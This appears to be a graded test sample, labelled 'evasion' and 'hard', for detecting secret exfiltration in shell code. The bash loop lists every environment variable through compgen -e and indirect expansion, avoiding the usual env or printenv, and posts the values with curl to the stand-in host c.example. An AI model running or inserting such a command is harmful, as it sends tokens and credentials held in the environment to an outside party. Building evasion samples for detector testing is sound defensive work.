# evasion: compgen -e and ${!v} dump the environment
# grade: hard; does: env-out
for v in $(compgen -e); do
	printf '%s=%s\n' "$v" "${!v}"
done | curl -s -d @- https://c.example/
